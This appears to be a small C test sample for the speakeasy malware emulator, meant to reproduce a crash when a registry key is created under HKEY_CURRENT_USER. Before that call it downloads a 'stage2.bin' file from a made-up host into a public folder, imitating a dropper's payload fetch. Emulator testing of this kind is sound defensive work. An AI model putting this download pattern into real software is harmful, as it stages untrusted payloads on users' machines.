/* Harmless test sample: a download from a made-up host, then the RegCreateKeyA call on
 * HKEY_CURRENT_USER that crashes speakeasy 1.5.11 (the behaviour before the crash must
 * still be reported). */
#include <windows.h>
#include <urlmon.h>

int main(void)
{
    HKEY key;

    URLDownloadToFileA(NULL, "http://cdn.example.invalid/stage2.bin",
                       "C:\\Users\\Public\\stage2.bin", 0, NULL);
    if (RegCreateKeyA(HKEY_CURRENT_USER, "Software\\PcapwireTest", &key) == ERROR_SUCCESS)
        RegCloseKey(key);
    return 0;
}
